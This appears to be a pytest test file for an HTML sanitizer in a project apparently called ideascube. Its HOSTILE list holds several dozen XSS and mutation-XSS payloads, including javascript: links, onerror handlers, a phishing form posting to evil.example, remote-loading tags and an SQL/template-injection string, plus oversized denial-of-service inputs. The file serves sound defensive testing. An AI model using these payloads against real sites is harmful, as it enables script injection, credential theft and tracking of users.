"""What people paste, and what attackers send, becomes a body: its words, and nothing that runs or loads."""

from __future__ import annotations

import re
from contextlib import suppress

import pytest

from content_packs.errors import BadInput
from ideascube.creations.cleaning import LONGEST, clean_body
from ideascube.creations.markdown import from_markdown
from tests.creations.bodies import MEDIA

# https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, and mutations that parsers made of
# harmless-looking HTML (https://research.securitum.com/mutation-xss-via-mathml-mutation-dompurify-2-0-17-bypass/).
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{MEDIA}/a.jpg" onerror=alert(1) style="position:fixed">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><p><style><img src=1 onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/">x</a>',
    r'<a href="/\evil.example/">x</a>',
    '<a href="https://box@evil.example/">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="https://evil.example/pixel.gif">',
    f'<img src="{MEDIA}/../../raw/x">',
    f'<img src="{MEDIA}/a.jpg?x=1">',
    '<video src="https://evil.example/a.mp4" autoplay></video>',
    '<video><source src="//evil.example/a.mp4" onerror=alert(1)></video>',
    "<style>@import url(https://evil.example)</style><p style='background:url(https://evil.example)'>x</p>",
    '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<p id=content class=top onclick=alert(1)>x</p>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<p>{{7*7}}{% raw %}<%= 7*7 %>${7*7}' OR 1=1; --</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "\ud800<p>\x00\ufffe\u202e</p>",
)
ELEMENTS = {
    "p", "h2", "h3", "ul", "ol", "li", "blockquote", "strong", "em", "a", "br", "hr", "table", "thead", "tbody", "tr",
    "th", "td", "figure", "figcaption", "img", "audio", "video",
}  # fmt: skip
_OPENING = re.compile(r"<([a-z0-9]+)((?: [a-z-]+(?:=\"[^\"<>]*\")?)*)>")
_ATTRIBUTE = re.compile(r' ([a-z-]+)(?:="([^"]*)")?')


def is_harmless(body: str) -> bool:
    """Whether it is written of the vocabulary alone, with addresses of this box, or links to the internet."""
    rest = body
    for element, attributes in _OPENING.findall(body):
        assert element in ELEMENTS, element
        for name, value in _ATTRIBUTE.findall(attributes):
            assert name in ("href", "src", "alt", "controls", "aria-label"), name
            assert name != "src" or re.fullmatch(r"/media/[0-9a-f]{64}/[\w.-]+", value), value
            assert name != "href" or re.match(r"https?://[^@/]+(/|$)|/(?![/\\])", value), value
    rest = _OPENING.sub("", re.sub(r"</[a-z0-9]+>", "", rest))
    return "<" not in rest and ">" not in re.sub("&gt;", "", rest)


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_runs_or_loads_is_left(html: str):
    body = clean_body(f"<p>before</p>{html}<p>after</p>")

    assert is_harmless(body)
    assert "before" in body
    assert "evil.example" not in re.sub(">[^<]*<", "><", body)
    assert body == clean_body(body)


@pytest.mark.parametrize("html", HOSTILE)
def test_markdown_is_no_way_around(html: str):
    text = f"before\n\n{html}\n\n> {html}\n\n[x](javascript:alert(1)) ![y](//evil.example/a.jpg)"

    assert is_harmless(from_markdown(text))


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 10_000 + "x" + "</div>" * 10_000,
        "<b><p>" * 10_000 + "x",
        "<ul><li>" * 10_000 + "x",
        "<blockquote>" * 10_000 + "x",
        "<table><tr><td>" * 5_000 + "x",
        "<a href=/x " + "a=1 " * 300_000 + ">x</a>",
        "<p>" + "&amp;" * 90_000,
        "<" * 500_000,
        "<p>" + "word " * 20_000,
    ],
)
def test_whatever_is_nested_or_long_ends(html: str):
    with suppress(BadInput):
        assert is_harmless(clean_body(html))


@pytest.mark.parametrize("html", ["x" * 5_000_000, "<p>" + "x" * (LONGEST + 1), "&" * 200_000, "<p>x" * 100_000])
def test_what_is_too_long_is_refused_with_what_to_do(html: str):
    with pytest.raises(BadInput, match=r"[.:] (Make|Write|make|write)|: write"):
        clean_body(html)


SIGNS = ("[", "*a ", "![", "<a ", "`", "> ")


@pytest.mark.parametrize("text", [sign * count for sign in SIGNS for count in (15_000, 90_000)])
def test_markdown_that_is_nothing_ends(text: str):
    with suppress(BadInput):
        assert is_harmless(from_markdown(text))


def test_a_table_that_takes_seconds_to_read_is_refused_before():
    head = f"|{'a|' * 100}\n|{'-|' * 100}\n"

    with pytest.raises(BadInput, match="write it more plainly"):
        from_markdown(head + f"|{'b|' * 100}\n" * 1000)


def test_what_editors_and_word_processors_write_becomes_paragraphs():
    assert "<p>One</p>\n<p>two <strong>three</strong><br>four</p>" == clean_body(
        "<div>One<br><br>two&nbsp;<b style='x'> three</b><br>four</div>".replace("&nbsp;", " ")
    )
    assert "<h2>A</h2>\n<h3>B</h3>\n<h2>C</h2>" == clean_body("<h1>A</h1><h4>B</h4><h1>C</h1>")
    assert "<ul><li>a<ul><li>b</li></ul></li></ul>" == clean_body("<ul><li><p>a</p></li><ul><li>b</li></ul></ul>")
    assert "<p>a</p>\n<p>b</p>" == clean_body("<pre>a\n\nb</pre>")


def test_links_to_this_box_are_paths():
    body = clean_body(
        '<a href="http://box.lan/items/a?b=1">x</a> <a href="http://box.lan.evil.org/">y</a>', "http://box.lan"
    )

    assert '<p><a href="/items/a?b=1">x</a> <a href="http://box.lan.evil.org/">y</a></p>' == body


def test_a_file_of_this_box_keeps_what_is_said_of_it():
    figure = (
        f'<figure><img src="{MEDIA}/a.jpg" alt="A &quot;cat&quot;"><figcaption>Our <em>cat</em></figcaption></figure>'
    )

    assert figure == clean_body(figure)
    assert f'<figure><img src="{MEDIA}/a.jpg" alt=""></figure>' == clean_body(f"<p><img src='{MEDIA}/a.jpg'></p>")
    assert "" == clean_body('<figure><img src="/raw/pack/content/a.jpg"></figure>')
